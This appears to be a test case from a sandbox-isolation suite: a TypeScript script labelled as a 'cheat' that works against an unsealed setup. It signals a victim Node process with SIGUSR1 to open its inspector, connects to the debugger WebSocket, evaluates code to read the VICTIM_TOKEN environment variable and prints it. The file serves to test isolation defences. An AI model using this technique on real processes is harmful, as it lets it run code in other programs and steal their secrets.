// Cheat: has another Node process open its inspector (SIGUSR1), and runs code in it
// Works: unsealed
// Proof: loot

import { once } from "node:events";
import { scene } from "./scene.ts";

process.kill(scene.victim, "SIGUSR1");
const at = `http://127.0.0.1:${scene.inspectorPort}/json`;
let targets: { webSocketDebuggerUrl: string }[] = [];
for (let look = 0; look < 100 && targets.length === 0; look++) {
  targets = await fetch(at).then(
    (response) => response.json() as Promise<typeof targets>,
    () => [],
  );
  await new Promise((resolve) => setTimeout(resolve, 10));
}
const socket = new WebSocket(targets[0]?.webSocketDebuggerUrl ?? "");
await once(socket, "open");
const params = { expression: "process.env.VICTIM_TOKEN" };
socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params }));
const [{ data }] = (await once(socket, "message")) as [MessageEvent];
console.log(data);
socket.close();
